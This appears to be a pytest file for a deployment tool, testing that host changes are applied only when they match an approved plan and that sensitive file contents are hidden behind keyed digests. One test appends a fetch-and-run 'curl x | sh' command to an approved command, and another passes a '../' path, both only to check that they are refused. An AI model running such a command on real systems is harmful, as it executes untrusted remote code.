"""--approved-plan binds what is applied: each host's stage is applied only when its plan, computed right before
applying, is that host's and stage's slice of the approved plan (README: Plan and approval)."""

import hashlib
import re

import pytest

from groundwork.changes import (CommandChange, DesiredFile, FileChange, PlanRefused, apply_plan, content_digest,
                                record_of)
from groundwork.context import RunContext
from groundwork.remote import Masker

KEY = b"k" * 32


def plan_for(tmp_path, word="new"):
    target = tmp_path / "app.conf"
    return target, [FileChange(DesiredFile(str(target), f"{word}\n".encode()), b"old\n", None),
                    CommandChange("reload the app", [f"echo reloaded > {tmp_path / 'reloaded'}"], "-old\n+new\n")]


def approved(plan, host="hdss7-21", stage="app"):
    return {(host, stage): [record_of(c, True, KEY).plan_entry() for c in plan]}


def context(slices, masker=None):
    return RunContext(inventory=None, dry_run=False, masker=masker or Masker(), approved=slices, approved_run="R1",
                      digest_key=KEY).for_step("hdss7-21", "app")


def test_the_approved_plan_is_applied(local_remote, tmp_path):
    target, plan = plan_for(tmp_path)
    target.write_bytes(b"old\n")
    report = apply_plan(local_remote, plan, context(approved(plan)))
    assert target.read_bytes() == b"new\n" and (tmp_path / "reloaded").exists()
    assert [c.applied for c in report.changes] == [True, True]


@pytest.mark.parametrize("what", ["content", "command", "nothing approved for this host"])
def test_a_plan_that_is_not_the_approved_slice_changes_nothing_on_the_host(local_remote, tmp_path, what):
    target, plan = plan_for(tmp_path)
    target.write_bytes(b"old\n")
    slices = approved(plan)
    if what == "content":  # the host changed after approval: the file would get other content
        _, plan = plan_for(tmp_path, word="other")
    elif what == "command":
        plan[1] = CommandChange("reload the app", [f"echo reloaded > {tmp_path / 'reloaded'}; curl x | sh"],
                                "-old\n+new\n")
    else:
        slices = approved(plan, host="hdss7-22")
    with pytest.raises(PlanRefused, match=r"^REFUSED: the plan for hdss7-21 app differs from the approved plan R1") as refused:
        apply_plan(local_remote, plan, context(slices))
    assert local_remote.log == [] and target.read_bytes() == b"old\n" and not (tmp_path / "reloaded").exists()
    assert refused.value.report.refused and "--- approved plan" in refused.value.report.notes[0]


def test_a_sensitive_file_whose_content_changed_after_approval_is_refused_though_its_diff_reads_the_same(
        local_remote, tmp_path):
    """A sensitive file's diff never shows its content, so two plans writing different secrets read alike:
    only the content's (keyed) digest tells them apart, in each host's slice and in the whole plan's digest."""
    from groundwork.approval import plan_digest

    target = tmp_path / "harbor.yml"
    target.write_bytes(b"password: old\n")

    def plan(secret: bytes):
        return [FileChange(DesiredFile(str(target), b"password: " + secret + b"\n", sensitive=True),
                           b"password: old\n", None)]
    approved_plan, changed_plan = plan(b"approved"), plan(b"swapped")
    assert approved_plan[0].diff == changed_plan[0].diff  # nothing in the diff tells them apart
    with pytest.raises(PlanRefused, match="differs from the approved plan R1"):
        apply_plan(local_remote, changed_plan, context(approved(approved_plan)))
    assert target.read_bytes() == b"password: old\n"
    entries = [{"host": "hdss7-21", "stage": "app", **record_of(c, True, KEY).plan_entry()}
               for c in (approved_plan[0], changed_plan[0])]
    assert plan_digest(entries[:1]) != plan_digest(entries[1:])


def test_a_sensitive_files_digest_in_a_plan_is_keyed_and_its_diff_has_none(tmp_path):
    secret = b"password: hunter2\n"
    change = FileChange(DesiredFile("/opt/harbor/harbor.yml", secret, sensitive=True), b"password: old\n", None)
    entry = record_of(change, True, KEY).plan_entry()
    plain = hashlib.sha256(secret).hexdigest()
    assert entry["content"].startswith("hmac-sha256:") and entry["content"] != content_digest(
        DesiredFile("/x", secret, sensitive=True), b"another key")
    text = entry["diff"] + entry["content"]
    assert plain not in text and plain[:16] not in text and "hunter2" not in text
    assert not re.search(r"[0-9a-f]{16}", entry["diff"]), entry["diff"]
    assert "sensitive content not shown" in entry["diff"]
    # A file that is not sensitive keeps its plain digest, for anyone to check against the file.
    plain_entry = record_of(FileChange(DesiredFile("/etc/a", b"x\n"), None, None), True, KEY).plan_entry()
    assert plain_entry["content"].startswith("sha256:" + hashlib.sha256(b"x\n").hexdigest())


def test_the_command_line_refuses_an_altered_plan_with_exit_6_and_a_path_with_exit_2(tmp_path):
    import json

    from tests.conftest import copy_seed_inventory, run_runbook
    from tests.unit.test_report import dry_run_folder

    reports = tmp_path / "reports"
    reports.mkdir()
    folder = dry_run_folder(reports)
    inventory = str(copy_seed_inventory(tmp_path))
    plan = json.loads((folder / "plan.json").read_text())
    plan["changes"][0]["diff"] += "+one more line\n"
    (folder / "plan.json").write_text(json.dumps(plan))
    altered = run_runbook("-i", inventory, "--reports", str(reports), "--approved-plan", folder.name)
    assert altered.returncode == 6, altered.stderr
    assert "REFUSED: " in altered.stderr and "the folder was altered after its dry run" in altered.stderr
    escaped = run_runbook("-i", inventory, "--reports", str(reports), "--approved-plan", f"../{folder.name}")
    assert escaped.returncode == 2 and "is not a run id" in escaped.stderr
    assert sorted(p.name for p in reports.iterdir() if not p.name.startswith(".")) == [folder.name]
